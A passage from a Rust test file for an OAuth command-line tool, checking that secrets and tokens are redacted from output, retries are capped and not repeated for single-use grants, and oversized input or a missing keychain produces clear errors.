            .to_string(),
        ),
        (
            502,
            "text/html",
            format!("<html><body>upstream said: Authorization: Basic {basic} / {CLIENT_SECRET}</body></html>"),
        ),
    ] {
        let provider = FakeProvider::start(State::default(), move |_req, _st| {
            Reply::new(status, content_type, body.clone())
        });
        let env = ci_env(&provider);
        let out = run(&env, &["-vvv", "client-credentials", "-p", "ci"]);
        assert_ne!(out.status.code(), Some(0));
        let err = stderr(&out);
        assert!(!err.contains(CLIENT_SECRET), "the secret is echoed:\n{err}");
        assert!(!err.contains(&basic), "the Basic header is echoed:\n{err}");
        assert!(err.contains("[redacted]"), "{err}");
    }
    // A refresh token echoed by the server is blanked out too.
    let provider = FakeProvider::start(State::default(), |req, _st| {
        let presented = req.param("refresh_token").unwrap_or_default();
        Reply::oauth_error(
            400,
            "invalid_request",
            &format!("refresh token {presented} is malformed"),
        )
    });
    let env = TestEnv::new();
    work_profile(&env, &provider);
    let out = env
        .cmd()
        .args(["login", "-p", "work", "--with-refresh-token", "-"])
        .stdin_text("rt-very-secret-value\n")
        .output()
        .unwrap();
    assert_code(&out, 3);
    assert!(
        !stderr(&out).contains("rt-very-secret-value"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn retry_after_is_capped_for_the_whole_request_not_per_retry() {
    // 16 s + 16 s would pass a 30 s cap applied per retry.
    let provider = FakeProvider::start(State::default(), |_req, _st| {
        Reply::new(503, "text/plain", "busy").header("Retry-After", "16")
    });
    let env = ci_env(&provider);
    let out = run(&env, &["client-credentials", "-p", "ci"]);
    assert_code(&out, 5);
    assert_eq!(
        provider.requests_to(TOKEN_PATH).len(),
        2,
        "a second Retry-After wait went past the 30 s budget"
    );
}

#[test]
fn single_use_grants_are_not_sent_again_after_a_5xx() {
    // The provider spends the refresh token, then fails: sending it again
    // would hit reuse detection.
    let provider = rotating_with(|_| {});
    let work = Work::login(&provider, &[]);
    provider.set_down(true);
    let out = work.run(&["refresh", "-p", "work"]);
    assert_code(&out, 5);
    assert!(
        stderr(&out).contains("run the command again"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        provider.requests_to(TOKEN_PATH).len(),
        2,
        "the refresh token was sent twice"
    );
    // Client credentials may be minted again: a 503 is retried there.
    let down = answering(json!({"access_token": "t"}));
    down.set_down(true);
    let env = ci_env(&down);
    assert_code(&run(&env, &["client-credentials", "-p", "ci"]), 5);
    assert_eq!(down.requests_to(TOKEN_PATH).len(), 3);
}

#[test]
fn a_huge_body_or_config_ends_with_a_clear_error() {
    let huge = "x".repeat(8 * 1024 * 1024);
    let provider = FakeProvider::start(State::default(), move |_req, _st| {
        Reply::new(
            200,
            "application/json",
            format!("{{\"access_token\": \"{huge}\"}}"),
        )
    });
    let env = ci_env(&provider);
    let out = run(&env, &["client-credentials", "-p", "ci"]);
    assert_code(&out, 1);
    assert!(stderr(&out).contains("KiB"), "{}", stderr(&out));

    let env = TestEnv::new();
    let mut config = String::from("[profiles.big]\nclient_id = \"x\"\n");
    while config.len() <= 1024 * 1024 {
        config.push_str("# padding padding padding padding padding padding padding\n");
    }
    env.write_config(&config);
    let out = run(&env, &["token", "-p", "big"]);
    assert_code(&out, 2);
    assert!(stderr(&out).contains("larger than"), "{}", stderr(&out));
}

#[test]
fn credentials_in_a_url_are_a_usage_error_and_never_shown() {
    let env = TestEnv::new();
    let out = run(
        &env,
        &[
            "client-credentials",
            "--token-url",
            "https://robot:pw-in-url-1234@id.example/token",
            "--client-id",
            CLIENT_ID,
        ],
    );
    assert_code(&out, 2);
    assert!(!stderr(&out).contains("pw-in-url-1234"), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("user name or password"),
        "{}",
        stderr(&out)
    );

    env.write_config(
        "[profiles.leaky]\ntoken_url = \"https://robot:pw-in-url-1234@id.example/token\"\nclient_id = \"x\"\n",
    );
    let out = run(&env, &["profile", "show", "leaky"]);
    assert_ok(&out);
    assert!(!stdout(&out).contains("pw-in-url-1234"), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("id.example/token"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn a_keychain_that_does_not_answer_is_named_when_nothing_is_found() {
    let env = TestEnv::new();
    env.write_config(
        "[profiles.work]\ntoken_url = \"http://127.0.0.1:9/token\"\nclient_id = \"x\"\n",
    );
    let out = env
        .cmd()
        .env("OAUTHCTL_STORE", "auto")
        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/bus")
        .args(["token", "-p", "work"])
        .output()
        .unwrap();
    assert_code(&out, 4);
    let err = stderr(&out);
    assert!(
        err.contains("no keychain (Secret Service) is running")
            && err.contains("oauthctl login -p work"),
        "{err}"
    );
}

/// Started with stdout closed (`exec 1>&-`), oauthctl must not let a file it
/// opens (the lock, a token file) become descriptor 1 and receive the token:
/// descriptors 0–2 are put on /dev/null first, as Rust's own start would.
#[test]
fn a_closed_stdout_never_makes_a_store_file_the_output() {
    let provider = answering(json!({
        "access_token": "closed-stdout-token",
        "token_type": "Bearer",
        "expires_in": 600,
    }));
    let env = ci_env(&provider);
    for args in ["client-credentials -p ci --force", "token -p ci"] {
        let out = env
            .command("bash")
            .env("OAUTHCTL_CLIENT_SECRET", CLIENT_SECRET)
            .args([
                "-c",
                &format!("exec 1>&- 0<&-; \"$0\" {args}"),
                crate::support::BIN,
            ])
            .output()
            .unwrap();
        assert_ok(&out);
        assert_no_panic(&out);
    }
    let mut files = Vec::new();
    let mut dirs = vec![env.path().to_path_buf()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                dirs.push(path);
            } else {
                files.push(path);
            }
        }
    }
    let tokens = env.data_dir().join("tokens");
    for file in files.iter().filter(|f| !f.starts_with(&tokens)) {
        let text = String::from_utf8_lossy(&std::fs::read(file).unwrap_or_default()).into_owned();
        assert!(
            !text.contains("closed-stdout-token"),
            "the token went into {}",
            file.display()
        );
    }
    assert_eq!(token_files(&env).len(), 1, "{:?}", token_files(&env));
}
